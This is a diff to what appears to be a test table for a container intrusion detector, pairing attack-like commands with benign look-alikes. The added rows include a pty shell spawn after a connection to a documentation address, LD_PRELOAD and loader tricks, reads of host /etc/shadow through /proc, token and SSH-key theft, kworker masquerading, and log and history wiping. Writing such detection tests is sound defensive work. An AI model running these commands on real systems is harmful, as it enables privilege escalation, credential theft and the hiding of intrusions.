@@ -16,6 +16,8 @@ UNIX = ("import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"{0}\"); s.li
 # 198.51.100.99 is allowed to pods with this label, and nobody answers there
 OUT = {"out": "yes"}
 GO = "import socket; s = socket.socket(); s.setblocking(False); s.connect_ex((\"198.51.100.99\", 80)); "
+SPAWN = "mount -t devpts devpts /dev/pts; echo exit | python3 -c '{}import pty; pty.spawn([\"/bin/sh\"])'"
+LOADER = "/lib64/ld-linux-x86-64.so.2 {} /usr/bin/id"
 # becomes root again without a set-user-id file, by a capability that it was left
 CAPABLE = ("setpriv --reuid=12 --clear-groups --inh-caps=+setuid --ambient-caps=+setuid "
            "python3 -c 'import os; os.setuid(0); os.execv(\"/usr/bin/id\", [\"id\"])'")
@@ -70,7 +72,8 @@ ROWS = {
         [deed(PYTHON.format("import mmap, os; f = os.memfd_create(\"data\"); os.ftruncate(f, 4096); "
                             "mmap.mmap(f, 4096); mmap.mmap(f, 4096, mmap.MAP_SHARED, 5)"))]),
     "tmpfs-exec": (
-        [deed("cp /bin/true /mnt/x; /mnt/x")],
+        [deed("cp /bin/true /mnt/x; /mnt/x"),
+         deed("mkdir /opt/r; mount -t ramfs none /opt/r; cp /bin/true /opt/r/x; /opt/r/x; umount -l /opt/r")],
         [deed("cp /bin/true /mnt/x; cat /mnt/x > /mnt/y; rm /mnt/x /mnt/y")]),
     "system-write": (
         [deed("cp /bin/true /usr/local/bin/tool"),
@@ -88,16 +91,21 @@ ROWS = {
          deed(": > /etc/x; cd /usr/share; ln /etc/x ../../etc/ld.so.preload; rm /etc/ld.so.preload")],
         [deed("cat /etc/ld.so.preload; ldconfig -p; echo x > /etc/ld.so.conf.d/app.conf")]),
     "preload-env": (
-        [deed("LD_PRELOAD=/x.so /usr/bin/id")],
-        [deed("id; sh -c 'ls /'; LD_LIBRARY_PATH=/opt/lib /usr/bin/date",
+        [deed("LD_PRELOAD=/x.so /usr/bin/id"),
+         deed("env A=$(head -c 60000 /dev/zero | tr '\\0' a) LD_PRELOAD=/x.so /usr/bin/id"),
+         deed(LOADER.format("--preload /usr/lib/x86_64-linux-gnu/libm.so.6"))],
+        [deed(LOADER.format("--list")),
+         deed("id; sh -c 'ls /'; LD_LIBRARY_PATH=/opt/lib /usr/bin/date",
               env={"LD_PRELOAD": "libm.so.6"})]),
     "cron": (
         [deed("echo '* * * * * root id' > /etc/cron.d/job"),
-         deed("echo '* * * * * root id' > /tmp/x; cd /etc/cron.d; mv /tmp/x job")],
+         deed("echo '* * * * * root id' > /tmp/x; cd /etc/cron.d; mv /tmp/x job"),
+         deed("mkdir -p /run/systemd/system; echo '[Timer]' > /run/systemd/system/x.timer")],
         [deed("ls /etc/cron.d /etc/cron.daily; cat /etc/cron.d/*; run-parts --test /etc/cron.daily")]),
     "package-manager": (
-        [deed("dpkg -i /nothing.deb")],
-        [deed("dpkg -l; dpkg-query -W; dpkg --print-architecture; apt-cache policy bash")]),
+        [deed("dpkg -i /nothing.deb"), deed("dpkg --purge no-such-package"),
+         deed("python3 -m pip install --no-index no-such-package")],
+        [deed("python3 -m pip --version; dpkg -l; dpkg-query -W; dpkg --print-architecture; apt-cache policy bash")]),
     "server-shell": (
         [deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/sh\", \"-c\", \"true\"])"))],
         [deed(PYTHON.format(SERVE + "subprocess.run([\"/usr/bin/gzip\", \"-V\"])")),
@@ -105,12 +113,20 @@ ROWS = {
     "socket-shell": (
         [deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/sh\", \"-c\", \"true\"], stdin=a, stdout=a)")),
          deed("bash -c ': > /dev/tcp/198.51.100.99/80' & p=$!; "
-              "until grep -q ':0050 02 ' /proc/$p/net/tcp; do :; done; kill $p", labels=OUT)],
-        [deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/true\"], stdin=a, stdout=a)")),
+              "until grep -q ':0050 02 ' /proc/$p/net/tcp; do :; done; kill $p", labels=OUT),
+         # at a terminal or socket pair of the program that is connected
+         deed(SPAWN.format(GO), labels=OUT),
+         deed(PYTHON.format(GO + "import subprocess; a, b = socket.socketpair(); b.send(b\"exit\\n\"); "
+                            "subprocess.run([\"/bin/bash\"], stdin=a)"), labels=OUT)],
+        [deed(SPAWN.format("")),
+         deed(PYTHON.format(GO + "import subprocess; "
+                            "subprocess.run([\"/bin/sh\", \"-c\", \"cat\"], input=b\"x\")"), labels=OUT),
+         deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/true\"], stdin=a, stdout=a)")),
          deed("sh -c 'nc -w 1 -z 198.51.100.99 80'", labels=OUT)]),
     "interactive-exec": ("a terminal from outside", "commands from outside"),
     "masquerade": (
         [deed("python3 -c 'import os; os.execv(\"/bin/true\", [\"[kworker/0:1]\"])'"),
+         deed("bash -c 'exec -a \" [kworker/0:1] \" true'"),
          deed("mkdir /tmp/.x; cp /bin/true /tmp/.x/sshd; /tmp/.x/sshd")],
         [deed("bash -c 'exec -a -bash bash -c true'; bash -c 'exec -a app /bin/true'; [ 1 = 1 ]")]),
     "setuid-bit": (
@@ -129,12 +145,15 @@ ROWS = {
         [deed("mount; findmnt; df; cat /proc/self/mountinfo")]),
     "kernel-file": (
         # opened for writing, but nothing is written: this is the machine's own switch
-        [deed("true >> /proc/sys/kernel/core_pattern")],
+        [deed("true >> /proc/sys/kernel/core_pattern"),
+         deed("mkdir /opt/p; mount -t proc p /opt/p; true >> /opt/p/sys/kernel/core_pattern; umount /opt/p")],
         [deed("cat /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe; sysctl kernel.ostype")]),
     "host-root": (
         # likewise; OUTSIDE is a process of the node (1 is not always within reach)
-        [deed("true >> /proc/OUTSIDE/root/etc/hostname"), deed("cat /proc/OUTSIDE/root/etc/shadow")],
-        [deed("ln -sf /proc/1/fd/1 /var/log/app.log; cat /proc/1/status; "
+        [deed("true >> /proc/OUTSIDE/root/etc/hostname"), deed("cat /proc/OUTSIDE/root/etc/shadow"),
+         deed("cat /proc/OUTSIDE/root/etc/hostname"), deed("ls /proc/OUTSIDE/root/"),
+         deed("find /dev -maxdepth 1 -type b -exec head -c 1 {} +")],
+        [deed("ls -l /proc/OUTSIDE/root /proc/1/exe; cat /proc/1/cmdline; lsblk; ln -sf /proc/1/fd/1 /var/log/app.log; cat /proc/1/status; "
               "true >> /proc/self/root/etc/hostname")]),
     "foreign-netns": ([deed("unshare -n true")], [deed("ip link; ss -ltn")]),
     "ptrace": (
@@ -161,21 +180,32 @@ ROWS = {
          deed("python3 -c 'import ctypes; c = ctypes.CDLL(None); c.syscall(425, 4, (ctypes.c_char * 120)())'",
               starting=True)]),
     "raw-socket": (
-        [deed("python3 -c 'import socket; socket.socket(17, 3, 0)'")],
+        [deed("python3 -c 'import socket; socket.socket(17, 3, 0)'"),
+         deed("python3 -c 'import socket; socket.socket(2, 10, 0x300)'"),
+         # past every network policy: to the machine below, or straight from the card
+         deed("python3 -c 'import socket; socket.socket(40, 1, 0)'"),
+         deed("python3 -c 'import socket; socket.socket(44, 3, 0)'")],
         [deed("ping -c 1 -W 1 127.0.0.1; ip addr; python3 -c 'import socket; "
               "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'")]),
     "token-read": (
-        [deed(TOKEN + "cat $d/token")],
-        [deed(TOKEN + "python3 -c 'open(\"/run/secrets/kubernetes.io/serviceaccount/token\").read()'")]),
+        [deed(TOKEN + "cat $d/token"), deed(TOKEN + "ln $d/token /tmp/x"),
+         deed("mkdir -p /root/.kube; echo t > /root/.kube/config; cat /root/.kube/config")],
+        [deed("mkdir /opt/git; echo t > /opt/git/config; cat /opt/git/config; mkdir -p /run/secrets; "
+              "ln -s /run/secrets/kubernetes.io/serviceaccount/token /opt/token"),
+         deed(TOKEN + "python3 -c 'open(\"/run/secrets/kubernetes.io/serviceaccount/token\").read()'")]),
     "cloud-metadata": (
         [deed("nc -w 1 -z 169.254.169.254 80")],
         [deed("nc -w 1 -z 169.254.20.10 53; nc -w 1 -u -z 169.254.169.123 123")]),
     "ssh-key": (
-        [deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa")],
-        [deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa.pub; cat /root/.ssh/id_rsa.pub; "
+        [deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa"),
+         deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; mv /root/.ssh/id_rsa /tmp/x"),
+         deed("mkdir -p /etc/ssh; echo k > /etc/ssh/ssh_host_ecdsa_key; cp /etc/ssh/ssh_host_ecdsa_key /tmp")],
+        [deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa.new; mv /root/.ssh/id_rsa.new /root/.ssh/id_rsa"),
+         deed("mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa.pub; cat /root/.ssh/id_rsa.pub; "
               "echo k > /root/.ssh/id_rsa; chmod 600 /root/.ssh/id_rsa")]),
     "shadow": (
-        [deed("cat /etc/shadow")],
+        [deed("cat /etc/shadow"), deed("echo x > /etc/shadow-; cat /etc/shadow-"),
+         deed("cd /etc; ln shadow /tmp/x")],
         [deed("passwd -S root; su -s /bin/sh -c true daemon; useradd -r svc; getent passwd root")]),
     "environ": (
         [deed(SIBLING.format("cat /proc/$p/environ"))],
@@ -184,19 +214,22 @@ ROWS = {
         [deed("echo x > /root/.bash_history; rm /root/.bash_history"),
          deed("echo x > /root/.bash_history; cd /root; rm .bash_history"),
          deed("echo x > /root/.bash_history; : > /root/.bash_history"),
+         deed("echo x > /root/.python_history; mv /root/.python_history /tmp/x"),
          deed("echo x > /root/.bash_history; truncate -s 0 /root/.bash_history")],
         [deed("echo x >> /root/.bash_history; HISTFILE=/root/.bash_history bash -c "
               "'set -o history; history -a'")]),
     "logs": (
         [deed("echo x > /var/log/wtmp; rm /var/log/wtmp"),
          deed("echo x > /var/log/wtmp; cd /var; rm -r log"),
+         deed("echo x > /var/log/auth.log; sed -i /x/d /var/log/auth.log"),
          deed("echo x > /var/log/lastlog; python3 -c 'import os; os.truncate(\"/var/log/lastlog\", 0)'")],
         [deed("mkdir -p /var/log/app; echo x > /var/log/app/a.log; mv /var/log/app/a.log "
               "/var/log/app/a.log.1; : > /var/log/app/a.log; gzip /var/log/app/a.log.1; "
               "rm /var/log/app/a.log.1.gz")]),
     "firewall": (
-        [deed("tc qdisc del dev lo root")],
-        [deed("tc qdisc show; nft list ruleset; iptables -L; ip route")]),
+        [deed("tc qdisc del dev lo root"), deed("ip route add 203.0.113.0/24 dev lo"),
+         deed("nft -f /dev/null")],
+        [deed("ip -f inet addr; ip -j link show; tc qdisc show; nft list ruleset; iptables -L; ip route")]),
     "own-pins": (
         [deed("mkdir -p /sys/fs/bpf/bulkhead; echo > /sys/fs/bpf/bulkhead/flow")],
         [deed("ls /sys/fs/bpf /run /var/lib; mkdir -p /run/app; echo > /run/app/pid")]),
@@ -212,7 +245,8 @@ ROWS = {
     "dns-tunnel": ("elsewhere", "trace_names.py"),
     "cpu": ("elsewhere", "trace_rates.py"),
     "runtime-socket": (
-        [deed(PYTHON.format(UNIX.format("/run/docker.sock")))],
+        [deed(PYTHON.format(UNIX.format("/run/docker.sock"))),
+         deed(PYTHON.format(UNIX.format("/run/cri-dockerd.sock")))],
         [deed(PYTHON.format(UNIX.format("/run/app.sock")))]),
     "privileged": ([deed("true")], [deed("true", usual=True)]),
     "posture": ([deed("true", usual=True)], [deed("true", usual=True, uid=12, readonly=True)]),
